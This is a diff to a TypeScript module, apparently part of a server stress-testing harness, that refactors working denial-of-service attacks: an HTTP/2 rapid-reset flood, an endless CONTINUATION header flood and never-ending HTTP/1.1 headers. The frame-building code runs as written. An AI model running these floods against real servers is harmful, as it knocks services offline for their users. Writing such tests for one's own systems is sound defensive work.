@@ -1,11 +1,11 @@
 /** Attacks that send as much as fits, from a few connections that are opened again and again. */
 import { Buffer } from "node:buffer";
+import { once } from "node:events";
 import { FRAME, frame, literal, openHeadersFrame, requestFrame, resetFrame } from "../support/raw_http2.ts";
 import { scaled, type Target } from "./attack.ts";
-import { bearer, CSRS } from "./asking.ts";
+import { bearer, createNodeRequest, CSRS } from "./asking.ts";
 import { type AttackConnection, open, type OpenOptions } from "./connection.ts";
-import { createNodeRequest } from "./node_request.ts";
-import { pause, repeat, until, waitUntil } from "./waiting.ts";
+import { pause, repeat, waitUntil } from "./waiting.ts";
 
 /** Connections at a time, at scale 1. */
 export const FLOODERS = 20;
@@ -25,7 +25,7 @@ export async function flood(target: Target, act: Flood, options: OpenOptions = {
     while (!over.aborted) {
       try {
         using connection = await open(target, options);
-        await Promise.race([act(connection, target, over), until(over)]);
+        await Promise.race([act(connection, target, over), once(over, "abort")]);
       } catch {
         // Refused, which is counted: once more.
         await pause(20, over);
@@ -38,11 +38,26 @@ export async function flood(target: Target, act: Flood, options: OpenOptions = {
   await flooding;
 }
 
+/** A frame of headers that continue those of the first stream. */
+export const CONTINUATION: Buffer = frame(
+  FRAME.continuation,
+  0,
+  1,
+  Buffer.concat(Array.from({ length: 16 }, (_, index) => literal(`x-${index}`, "y".repeat(1_000)))),
+);
+
+/** A hundred requests, on new streams, that are cancelled as soon as they are sent. */
+export function resetRequests(turn: number, path: string, headers: Readonly<Record<string, string>>): Buffer {
+  return Buffer.concat(Array.from({ length: 100 }, (_, index) => {
+    const stream = (turn * 100 + index) * 2 + 3;
+    return Buffer.concat([requestFrame(stream, "GET", path, headers), resetFrame(stream)]);
+  }));
+}
+
 /** Headers over HTTP/2 that never end. */
 export async function continuations(connection: AttackConnection, target: Target, over: AbortSignal): Promise<void> {
   await connection.write(openHeadersFrame(1));
-  const block = Buffer.concat(Array.from({ length: 16 }, (_, index) => literal(`x-${index}`, "y".repeat(1_000))));
-  await writeOn(connection, target, over, 1, () => frame(FRAME.continuation, 0, 1, block));
+  await writeOn(connection, target, over, 1, () => CONTINUATION);
 }
 
 /** Sends header blocks without an end over HTTP/1.1. */
@@ -55,11 +70,7 @@ export async function endlessHeaders(connection: AttackConnection, target: Targe
 export function rapidReset(token: string): Flood {
   const headers = { authorization: `Bearer ${token}` };
   return (connection, target, over) =>
-    writeOn(connection, target, over, 100, (turn) =>
-      Buffer.concat(Array.from({ length: 100 }, (_, index) => {
-        const stream = (turn * 100 + index) * 2 + 1;
-        return Buffer.concat([requestFrame(stream, "GET", "/version", headers), resetFrame(stream)]);
-      })));
+    writeOn(connection, target, over, 100, (turn) => resetRequests(turn, "/version", headers));
 }
 
 /** Frames that each require an answer, which is not read. */
